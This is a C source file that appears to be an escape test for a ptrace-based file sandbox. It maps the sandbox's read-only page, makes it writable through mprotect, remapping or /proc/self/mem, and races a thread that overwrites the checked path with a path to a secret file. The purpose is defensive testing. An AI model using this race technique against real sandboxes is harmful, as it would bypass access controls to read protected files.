/* Escape attempt against the ptrace backend's sealed page: guardian copies each checked
 * open path into a read-only page of this process and points the call at it. Find every
 * read-only anonymous mapping, try to make it writable (mprotect), to replace it (munmap,
 * mmap MAP_FIXED) or to write it through /proc/self/mem, and while a thread keeps writing
 * the secret's path over it, open an allowed file for ~2 s. */
#include "race.h"
#include <sys/mman.h>

#define MAXR 64
static unsigned long rbeg[MAXR], rend[MAXR];
static int nr, writable[MAXR], memfd = -1;
static char OK[2300];
static volatile int stop;

/* The secret, relative to WS (our cwd): short enough to fit over the checked path the page
 * holds without touching what follows it (the open_how). */
static const char EVIL[] = "../secret/secret.txt";

static void* flipper(void* arg) {
  (void)arg;
  while (!stop)
    for (int i = 0; i < nr; ++i)
      for (unsigned long a = rbeg[i]; a + sizeof EVIL <= rend[i]; a += 4096) {
        if (writable[i]) memcpy((void*)a, EVIL, sizeof EVIL);
        else if (memfd >= 0) pwrite(memfd, EVIL, sizeof EVIL, (off_t)a);
      }
  return NULL;
}

int main(int argc, char** argv) {
  fixture(argc, argv);
  snprintf(OK, sizeof OK, "%s/ro.txt", RO);
  if (chdir(WS) != 0) { perror("chdir"); return 2; }
  close(open(OK, O_RDONLY)); /* the first open makes guardian map its page */
  FILE* f = fopen("/proc/self/maps", "r");
  char line[512];
  while (f && nr < MAXR && fgets(line, sizeof line, f)) {
    unsigned long b, e;
    char perms[8];
    unsigned long off;
    int n = 0;
    if (sscanf(line, "%lx-%lx %7s %lx %*s %*s%n", &b, &e, perms, &off, &n) < 4 || !n) continue;
    while (line[n] == ' ') ++n;
    if (strcmp(perms, "r--p") != 0 || line[n] != '\n') continue; /* anonymous, read-only */
    rbeg[nr] = b, rend[nr] = e, ++nr;
  }
  if (f) fclose(f);
  int opened = 0;
  for (int i = 0; i < nr; ++i) {
    void* at = (void*)rbeg[i];
    size_t len = rend[i] - rbeg[i];
    if (mprotect(at, len, PROT_READ | PROT_WRITE) == 0) writable[i] = 1, ++opened;
    else if (munmap(at, len) == 0 &&
             mmap(at, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == at)
      writable[i] = 1, ++opened;
  }
  memfd = open("/proc/self/mem", O_RDWR);
  fprintf(stderr, "file_sealed_page: %d read-only regions, %d made writable, /proc/self/mem %s\n",
          nr, opened, memfd >= 0 ? "opened" : strerror(errno));
  return race_opens("file_sealed_page", OK, flipper, &stop);
}
